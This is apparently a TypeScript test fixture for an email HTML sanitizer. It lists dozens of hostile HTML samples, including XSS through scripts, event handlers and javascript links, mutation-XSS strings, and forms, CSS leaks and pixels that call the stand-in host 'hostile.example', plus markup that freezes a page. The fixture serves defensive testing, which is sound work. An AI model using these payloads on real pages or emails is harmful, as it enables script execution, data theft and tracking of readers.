/** A host that must never receive a request. */
export const HOSTILE_HOST = 'hostile.example'
const ORIGIN = `https://${HOSTILE_HOST}`
const ALERT = "alert('PWNED')"
const svg = (content: string) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`)}`

/** HTML of emails that try to run, load, send or cover something. */
export const hostileHtml: Record<string, string> = {
  // Scripts
  script: `<script>${ALERT}</script>`,
  'remote script': `<script src="${ORIGIN}/x.js"></script>`,
  'module script': `<script type="module">import '${ORIGIN}/x.js'</script>`,
  'unclosed script': `<script>${ALERT}//`,
  'script in a script': `<scr<script>ipt>${ALERT}</scr</script>ipt>`,
  'script in upper case': `<SCRIPT SRC=${ORIGIN}/x.js></SCRIPT>`,
  // Event handlers
  'image error': `<img src="x:" onerror="${ALERT}">`,
  'image error without quotes': `<img src=x: onerror=${ALERT}>`,
  'image error after a slash': `<img/src="x:"/onerror="${ALERT}">`,
  'pointer over': `<p onpointerover="${ALERT}" style="width:5000px;height:50px">over</p>`,
  'focus on load': `<input autofocus onfocus="${ALERT}">`,
  'details toggle': `<details open ontoggle="${ALERT}">x</details>`,
  'animation start': `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${ALERT}">x</p>`,
  'body load': `<body onload="${ALERT}">x</body>`,
  'media error': `<video><source onerror="${ALERT}" src="x:"></video><audio src="x:" onerror="${ALERT}"></audio>`,
  // Links
  'javascript link': `<a href="javascript:${ALERT}">link</a>`,
  'javascript link with a tab': `<a href="java&#9;script:${ALERT}">link</a>`,
  'javascript link with entities': `<a href="&#x6A;avascript&colon;${ALERT}">link</a>`,
  'javascript link for the whole window': `<a target="_top" href=" javascript:top.${ALERT}">link</a>`,
  'data link': `<a href="data:text/html,<script>${ALERT}</script>">link</a>`,
  'vbscript link': `<a href="vbscript:msgbox(1)">link</a>`,
  'link with a ping': `<a ping="${ORIGIN}/ping" name="x">link</a>`,
  'image map': `<img usemap="#m" width="300" height="300"><map name="m"><area shape="rect" coords="0,0,300,300" href="javascript:${ALERT}"></map>`,
  // Forms
  form: `<form action="${ORIGIN}/form" id="f"><input name="password" value="x"><button>Sign in</button></form>`,
  'form on the server': `<form action="/v1/session" method="post"><button>Sign out</button></form>`,
  'form action on a button': `<button form="f" formaction="javascript:${ALERT}">Go</button>`,
  'image button': `<form action="${ORIGIN}/form"><input type="image" src="${ORIGIN}/button.png"></form>`,
  // Navigation
  refresh: `<meta http-equiv="refresh" content="0;url=${ORIGIN}/refresh">`,
  'refresh to a script': `<meta http-equiv="refresh" content="0;url=javascript:${ALERT}">`,
  'refresh to data': `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${ALERT}</script>">`,
  base: `<base href="${ORIGIN}/" target="_top"><a href="x">link</a><img src="pixel.png">`,
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>${ALERT}</script>`,
  // Styles that load or report
  'style import': `<style>@import url("${ORIGIN}/x.css");</style>`,
  'style background': `<style>body{background:url(${ORIGIN}/bg.png)}</style>`,
  'inline background': `<p style="background:url('${ORIGIN}/bg.png')">x</p>`,
  'escaped background': `<p style="background:u\\72l(${ORIGIN}/bg.png)">x</p>`,
  'image set': `<p style="background:image-set('${ORIGIN}/bg.png' 1x)">x</p>`,
  'font face': `<style>@font-face{font-family:a;src:url(${ORIGIN}/a.woff2)}p{font-family:a}</style><p>x</p>`,
  'value leak': `<style>input[value^="x"]{background:url(${ORIGIN}/leak?x)}</style><input value="x1">`,
  'list image': `<ul style="list-style:url(${ORIGIN}/dot.png)"><li>x</li></ul>`,
  cursor: `<p style="cursor:url(${ORIGIN}/c.cur),auto">x</p>`,
  'style sheet link': `<link rel="stylesheet" href="${ORIGIN}/x.css">`,
  'prefetch and preconnect': `<link rel="prefetch" href="${ORIGIN}/p"><link rel="preconnect" href="${ORIGIN}"><link rel="dns-prefetch" href="${ORIGIN}"><link rel="prerender" href="${ORIGIN}/p">`,
  // Images that report
  'tracking pixel': `<img src="${ORIGIN}/pixel.gif?who=ada" width="1" height="1">`,
  'image sources': `<img srcset="${ORIGIN}/1.png 1x, ${ORIGIN}/2.png 2x"><picture><source srcset="${ORIGIN}/3.png"><img src="${ORIGIN}/4.png"></picture>`,
  'old background': `<table background="${ORIGIN}/table.png"><tr><td background="${ORIGIN}/cell.png">x</td></tr></table>`,
  'image of the server': `<img src="/v1/session"><img src="//${HOSTILE_HOST}/pixel.png">`,
  'image by content id': `<img src="cid:../../v1/session"><img src="cid:x&quot; onerror=${ALERT} x=&quot;">`,
  // Embedded documents
  frame: `<iframe src="${ORIGIN}/frame"></iframe><iframe srcdoc="<script>top.${ALERT}</script>"></iframe>`,
  'object and embed': `<object data="${ORIGIN}/o"></object><embed src="${ORIGIN}/e"><applet code="${ORIGIN}/a"></applet>`,
  'object with data': `<object data="data:text/html,<script>${ALERT}</script>"></object>`,
  'audio and video': `<video autoplay src="${ORIGIN}/v.mp4" poster="${ORIGIN}/v.png"><track src="${ORIGIN}/v.vtt"></video>`,
  // Vector graphics
  'svg script': `<svg><script>${ALERT}</script><a xlink:href="javascript:${ALERT}"><text y="20">x</text></a></svg>`,
  'svg load': `<svg onload="${ALERT}"><image href="${ORIGIN}/i.png"/><use href="${ORIGIN}/u.svg#x"/><animate onbegin="${ALERT}"/></svg>`,
  'svg image with a script': `<img src="${svg(`<script>${ALERT}</script><image href="${ORIGIN}/i.png"/>`)}">`,
  // HTML that changes its meaning when it is parsed again
  'mutation in mathematics': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ALERT}&gt;">`,
  'mutation in noscript': `<noscript><p title="</noscript><img src=x: onerror=${ALERT}>">`,
  'mutation in a template': `<template><form><template></form><img src=x: onerror=${ALERT}></template>`,
  'end of the frame': `</details></body></html><script>${ALERT}</script><details><summary>Quoted text`,
  // HTML that makes the page unusable
  'fixed cover': `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has expired</div>`,
  'giant table': `<table width="9999999" height="9999999">${`<tr>${'<td colspan="1000">x</td>'.repeat(20)}</tr>`.repeat(200)}</table>`,
  'deep nesting': `${'<div>'.repeat(4_000)}deep${'</div>'.repeat(4_000)}`,
  'nested tables and quotes': `${'<table><tr><td><blockquote>'.repeat(500)}deep`,
  'heavy styles': `<style>${'*:not(a):has(*>*~*){filter:blur(9px)}'.repeat(300)}</style><p style="filter:blur(999px);width:999999999px;font-size:99999px;line-height:99999">x</p>`,
  'endless animation': `<marquee scrollamount="9999">x</marquee><p style="animation:a 1ms infinite;transform:scale(99999)">x</p>`,
}
